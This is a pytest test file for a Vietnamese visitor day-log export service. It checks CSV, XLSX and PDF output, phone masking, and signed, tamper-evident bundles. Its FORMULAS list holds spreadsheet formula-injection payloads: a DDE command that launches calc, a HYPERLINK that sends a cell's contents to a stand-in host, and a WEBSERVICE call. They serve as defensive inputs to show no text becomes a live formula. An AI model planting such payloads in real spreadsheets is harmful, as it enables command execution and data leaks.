"""The day log as people get it, read by other people's programs."""

import csv
import hashlib
import io
import json
import re
import subprocess
import zipfile
from base64 import b64encode

import openpyxl
import pytest
import requests
from busy_day import id_by
from gatebook import local_day, now, problem, run
from openpyxl.utils.escape import unescape

# Every Vietnamese letter, in words short enough for a column.
VIETNAMESE = (
    "Ăn Ằng Ẳng Ẵng Ắng Ặng Ân Ầm Ẩm Ẫm Ấm Ậm Đê Ếch Ềnh Ểnh Ễnh Ệnh Ôm Ồm Ổm Ỗm Ốm Ộm Ơn Ờn Ởn Ỡn Ớn Ợn Ưng Ừng Ửng "
    "Ững Ứng Ựng Ỳ Ỷ Ỹ Ý Ỵ à ả ã á ạ è ẻ ẽ é ẹ ì ỉ ĩ í ị ò ỏ õ ó ọ ù ủ ũ ú ụ"
)
# OWASP's list, DDE, and what hides in front of a sign. What cannot be registered at all is tried in the units' tests.
FORMULAS = [
    "=1+2", "+84 =1", "-1+1", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://a.example/?"&A1,"b")',
    "=WEBSERVICE(\"http://a.example\")", "=DDE(\"cmd\";\"/C calc\";\"a\")", "＝1+1", "＋1", "－1", "＠SUM(1)", ";=1+1",
    "a;=1", "\"=1\"", "'=1", "0912345678", "1E5", "12/11", "TRUE", "http://a.example/", "mailto:a@a.example",
    "internal:Sheet1!A1", "_x0041_", "_x000D_=1", "שלום", "{=1}", "%0A=1", "= 1",
]


def arrive(client, name, **more):
    body = {"phone": "0912 345 678", "organisation": name[:200]}
    answer = client.request(
        "PUT",
        f"/api/v1/visits/{more.pop('visit')}",
        json={"entrance": "LA-SNV-1-A", "occurredAt": now(), "visitor": {"name": name[:120], **body}, **more},
    )
    assert answer.status_code == 201, answer.text


@pytest.fixture
def filled(client, chance):
    """A day with all kinds of texts and states."""
    for words in [VIETNAMESE[:110], VIETNAMESE[110:], *FORMULAS]:
        arrive(client, words.strip(), visit=id_by(chance), appAnswer="installedNow", party=2)
    visit = id_by(chance)
    arrive(client, "Trần Giả Định", visit=visit, badge="17")
    for entry in [{"kind": "departed", "how": "witnessed"}, {"kind": "annulled", "reason": "Ghi nhầm"}]:
        answer = client.put(f"/api/v1/visits/{visit}/entries/{id_by(chance)}", {"occurredAt": now(), **entry})
        assert answer.status_code == 201, answer.text
    return client


def cells_of(xlsx):
    """openpyxl leaves `_xHHHH_` as it is; spreadsheets read it."""
    rows = openpyxl.load_workbook(io.BytesIO(xlsx)).worksheets[0].iter_rows(values_only=True)
    return [[unescape(cell) if isinstance(cell, str) else cell for cell in row] for row in rows]


def rows_of(text):
    return list(csv.reader(io.StringIO(text.decode("utf-8-sig"), newline="")))


def unguarded(text):
    return text.replace("'", "")


def test_the_spreadsheet_says_what_the_csv_says_in_types_of_its_own(filled):
    day = local_day()
    rows, cells = rows_of(filled.log(day, "csv")), cells_of(filled.log(day, "xlsx"))
    assert len(rows) == len(cells) and rows[0] == cells[0]
    for row, cell in zip(rows[1:], cells[1:]):
        assert [type(cell[index]).__name__ for index in (0, 1, 4, 5, 10)] == ["int", "datetime", "str", "str", "int"]
        spelled = ["" if one is None else str(one) for one in cell]
        assert [unguarded(one) for one in spelled] == [unguarded(one) for one in row]


def test_no_text_becomes_a_formula_a_number_or_a_link(filled):
    xlsx = filled.log(local_day(), "xlsx")
    names = [row[4] for row in cells_of(xlsx)[1:]]
    assert set(FORMULAS) <= set(names)
    with zipfile.ZipFile(io.BytesIO(xlsx)) as parts:
        sheets = {name: parts.read(name).decode() for name in parts.namelist() if name.startswith("xl/worksheets/")}
        assert not any("externalLink" in name for name in parts.namelist())
    for name, sheet in sheets.items():
        assert "<f>" not in sheet and "<f " not in sheet and "<hyperlink" not in sheet, name


def test_the_spreadsheet_is_ready_to_be_read_and_printed(filled):
    book = openpyxl.load_workbook(io.BytesIO(filled.log(local_day(), "xlsx")))
    visits, figures = book.worksheets
    assert visits.freeze_panes == "A2" and visits.auto_filter.ref.startswith("A1:P")
    assert visits.print_title_rows == "$1:$1" and visits.page_setup.orientation == "landscape"
    assert visits.page_setup.paperSize == "9" or visits.page_setup.paperSize == 9
    assert len(figures._charts) == 1 and "LA-SNV-1" in book.properties.subject
    told = {row[0]: row[1] for row in figures.iter_rows(values_only=True)}
    assert told["Lượt khách"] == len(FORMULAS) + 2 and told["Đã hủy (không tính)"] == 1
    assert told["vừa cài tại quầy"] == len(FORMULAS) + 2


def test_libreoffice_opens_the_spreadsheet(filled, tmp_path):
    (tmp_path / "log.xlsx").write_bytes(filled.log(local_day(), "xlsx"))
    subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", tmp_path, tmp_path / "log.xlsx"],
        check=True, capture_output=True, timeout=180,
    )
    rows = rows_of((tmp_path / "log.csv").read_bytes())
    assert [row[4] for row in rows[1:] if row[4]] == [row[4] for row in cells_of((tmp_path / "log.xlsx").read_bytes())[1:]]


def text_of(pdf, tmp_path):
    (tmp_path / "log.pdf").write_bytes(pdf)
    return subprocess.run(
        ["pdftotext", "-layout", tmp_path / "log.pdf", "-"], check=True, capture_output=True, text=True
    ).stdout


def test_the_pdf_has_every_letter_embedded_fonts_and_a_sound_structure(filled, tmp_path):
    text = text_of(filled.log(local_day(), "pdf"), tmp_path)
    assert set(VIETNAMESE.replace(" ", "")) <= set(text)
    for words in ["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc", "NHẬT KÝ RA VÀO TRỤ SỞ", "(16)",
                  "NGƯỜI GHI SỔ", "THỦ TRƯỞNG CƠ QUAN", "DẤU NIÊM CỦA SỔ RA VÀO", "./."]:
        assert words in text
    assert "0912 345 ***" in text and "345 678" not in text
    pdf = tmp_path / "log.pdf"
    fonts = subprocess.run(["pdffonts", pdf], check=True, capture_output=True, text=True).stdout.splitlines()[2:]
    assert any("LiberationSerif" in line for line in fonts)
    assert all(re.search(r"\byes yes (yes|no)\b", line) for line in fonts)
    subprocess.run(["qpdf", "--check", pdf], check=True, capture_output=True)
    info = subprocess.run(["pdfinfo", pdf], check=True, capture_output=True, text=True).stdout
    assert re.search(r"Tagged: +yes", info) and "Nhật ký ra vào trụ sở LA-SNV-1" in info and "(A4)" in info
    assert b"/Lang (vi-VN)" in pdf.read_bytes()


def test_the_code_on_paper_is_the_signed_checkpoint(filled, server, tmp_path):
    checkpoint = requests.get(server.url + "/api/v1/headquarters/LA-SNV-1/checkpoint", timeout=10).content
    text_of(filled.log(local_day(), "pdf"), tmp_path)
    subprocess.run(["pdftoppm", "-r", "200", "-gray", tmp_path / "log.pdf", tmp_path / "page"], check=True)
    last = sorted(tmp_path.glob("page*.pgm"))[-1]
    read = subprocess.run(
        ["zbarimg", "--quiet", "--nodbus", "--raw", "-Sbinary", last], check=True, capture_output=True
    ).stdout
    assert read == checkpoint


def test_an_empty_day_is_a_proper_log(client, tmp_path):
    text = text_of(client.log(local_day(), "pdf"), tmp_path)
    assert "Trong ngày không có lượt khách nào." in text and "DẤU NIÊM" in text
    assert len(cells_of(client.log(local_day(), "xlsx"))) == 1


@pytest.mark.parametrize("form", ["csv", "xlsx", "pdf", "jsonl", "zip"])
def test_a_day_that_is_still_to_come_has_no_log(client, form):
    answer = client.get(f"/api/v1/headquarters/LA-SNV-1/days/2039-01-01/log.{form}")
    assert answer.status_code == 422 and problem(answer)["code"] == "day-in-future"


def test_a_bundle_holds_all_forms_and_verifies(filled, server, tmp_path):
    path = tmp_path / "bundle.zip"
    run("export", "--headquarters", "LA-SNV-1", "--day", local_day(), "--format", "bundle", "--output", path,
        "--data", server.data, check=True)
    stem = f"LA-SNV-1_{local_day()}."
    with zipfile.ZipFile(path) as bundle:
        assert bundle.testzip() is None
        assert bundle.namelist() == [stem + end for end in "README.txt csv xlsx pdf jsonl checkpoint".split()]
        assert "gatebook verify" in bundle.read(stem + "README.txt").decode()
        assert json.loads(bundle.read(stem + "jsonl").splitlines()[0])["checkpoint"].encode() == bundle.read(
            stem + "checkpoint"
        )
    answer = run("verify", path)
    assert answer.returncode == 0 and "rows: The" in answer.stdout, answer.stdout + answer.stderr
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(tmp_path / "forged.zip", "w") as forged:
        for name in old.namelist():
            forged.writestr(name, old.read(name).replace("Trần Giả Định".encode(), "Trần Giả Danh".encode()))
    assert run("verify", tmp_path / "forged.zip").returncode == 1


def test_what_leaves_is_disclosed_with_its_digest_before(filled, server):
    zipped = filled.log(local_day(), "zip")
    lines = filled.log(local_day(), "jsonl").splitlines()[1:-1]
    leaves = [json.loads(json.loads(line)["leaf"]) for line in lines]
    told = [leaf for leaf in leaves if leaf["kind"] == "disclosed" and leaf["format"] == "zip"]
    assert told[-1]["file"] == b64encode(hashlib.sha256(zipped).digest()).decode()
